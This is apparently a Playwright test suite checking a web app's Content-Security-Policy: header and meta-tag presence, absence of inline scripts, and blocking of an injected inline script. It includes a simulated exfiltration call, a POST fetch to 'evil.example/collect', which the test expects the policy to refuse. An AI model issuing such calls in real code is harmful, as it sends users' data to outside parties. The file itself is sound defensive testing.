import { pageProblems } from '../scripts/prerender/page-checks';
import { escapeHtml } from '../src/lib/html-escape';
import { expect, openTrial, test, violationSummary } from './fixtures';
import { EMBED_EXAMPLE_PATH, mapMarkers, trialPath } from './selectors';

/** The built app's policy (no tile layer in the test build): README, "Deployment headers". */
const PAGE_POLICY =
  "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; " +
  "worker-src 'self'; frame-src 'self'; object-src 'none'; base-uri 'self'; form-action 'self'";

test('the page carries its policy as a header and a meta tag, and its HTML has no inline script or style', async ({
  page,
}) => {
  const response = await page.goto(trialPath('NCT01573923'));
  if (!response) throw new Error('no response for the trial page');
  expect(response.headers()['content-security-policy']).toBe(`${PAGE_POLICY}; frame-ancestors *`);
  const html = await response.text();
  expect(html).toContain(
    `<meta http-equiv="Content-Security-Policy" content="${escapeHtml(PAGE_POLICY)}">`,
  );
  // The only scripts without a file are data blocks, which never run (page-checks.ts is the build's check).
  expect(html).not.toMatch(/<script(?![^>]*\ssrc=)(?![^>]*type="application\/json")[^>]*>/);
  expect(html).toContain('<script type="application/json" id="trial-data">');
  expect(pageProblems('the trial page', html)).toEqual([]);
  expect(html).not.toMatch(/<style/i);
  // Under the policy the page still works: its title, and the map with its six markers.
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute(
    'content',
    PAGE_POLICY,
  );
  await expect(mapMarkers(page)).toHaveCount(6);
});

test('the embed example host page has its own policy, allowing frames from other http(s) origins', async ({
  request,
}) => {
  const response = await request.get(EMBED_EXAMPLE_PATH);
  const policy = response.headers()['content-security-policy'];
  expect(policy).toContain("frame-src 'self' http: https:;");
  expect(policy).toContain("script-src 'self';");
});

// The page has two policies, the header and the meta tag (the same directives), and each one
// reports a violation: one refused script or fetch is two reports.
const TWICE = <T>(item: T) => [item, item];

test.describe('an inline script injected at run time', () => {
  test.use({ expectedCspViolations: TWICE('script-src-elem inline') });

  test('does not run, and is reported as a violation', async ({ page, guard }) => {
    await openTrial(page);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__inlineScriptRan = true;';
      document.body.append(script);
    });
    await expect
      .poll(() => guard.cspViolations.map(violationSummary))
      .toEqual(TWICE('script-src-elem inline'));
    expect(await page.evaluate(() => '__inlineScriptRan' in window)).toBe(false);
  });
});

test.describe('a fetch to another origin', () => {
  test.use({ expectedCspViolations: TWICE('connect-src https://evil.example/collect') });

  test('is refused by the policy (connect-src), before any request leaves', async ({
    page,
    guard,
  }) => {
    await openTrial(page);
    const outcome = await page.evaluate(async () => {
      try {
        await fetch('https://evil.example/collect', { method: 'POST', body: 'data' });
        return 'sent';
      } catch {
        return 'refused';
      }
    });
    expect(outcome).toBe('refused');
    await expect
      .poll(() => guard.cspViolations.map(violationSummary))
      .toEqual(TWICE('connect-src https://evil.example/collect'));
  });
});
